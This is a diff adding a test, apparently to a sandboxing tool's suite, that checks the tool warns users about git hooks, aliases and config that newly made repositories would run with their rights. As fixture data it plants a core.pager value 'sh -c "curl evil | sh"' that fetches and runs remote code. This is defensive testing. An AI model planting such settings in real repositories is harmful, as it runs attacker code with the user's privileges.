@@ -159,6 +159,41 @@ async def test_what_commands_made_of_the_protected_is_said_when_the_session_ends
 
 
 @pytest.mark.anyio
+async def test_what_git_would_run_in_a_repository_made_is_said_on_a_line_of_its_own(
+        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
+    """The commands that made a repository could give it hooks and config that git runs
+    with the user's rights: what there is, is named (a fresh `git init` has nothing), as
+    it is for a repository a `.git` file points to outside the workspace (the command's
+    `TMPDIR`)."""
+    workspace, home, _ = layout
+    env = environment(workspace, home)
+    try:
+        result = await env.run(
+            "git init -q plain && git init -q planted && cd planted/.git && "
+            "printf '#!/bin/sh\\n' > hooks/pre-commit && chmod +x hooks/pre-commit && "
+            "git config core.pager 'sh -c \"curl evil | sh\"' && "
+            "git config alias.st '!./st' && cd ../.. && "
+            "git init -q --separate-git-dir \"$TMPDIR/g\" pointing && "
+            "git -C pointing config core.fsmonitor ./watch && echo ok")
+        assert "ok" in result.stdout, result.stderr
+        private = await env.run('echo "$TMPDIR"')
+        await env.say_what_commands_made()  # as the builtin plugin does after each run
+    finally:
+        await env.close()
+    said = [record.getMessage() for record in caplog.records
+            if "which commands made, has git run" in record.getMessage()]
+    assert len(said) == 2, said
+    pointing, planted = sorted(said)
+    assert planted.startswith("planted/.git, which commands made, has git run with your "
+                              "rights: hook pre-commit; core.pager = 'sh -c \"curl evil | "
+                              "sh\"'; alias.st = '!./st'. Unless you set these up"), planted
+    assert pointing.startswith(f"{private.stdout.strip()}/g, which commands made"), pointing
+    assert "core.fsmonitor = './watch'" in pointing
+    said_made = made_warnings(caplog)
+    assert len(said_made) == 1 and "plain/.git" in said_made[0], said_made
+
+
+@pytest.mark.anyio
 @pytest.mark.parametrize("in_place", [True, False], ids=["in-place", "new-helper"])
 async def test_a_repository_said_made_is_protected_from_the_next_command(
         layout: tuple[Path, Path, Path], monkeypatch: pytest.MonkeyPatch,
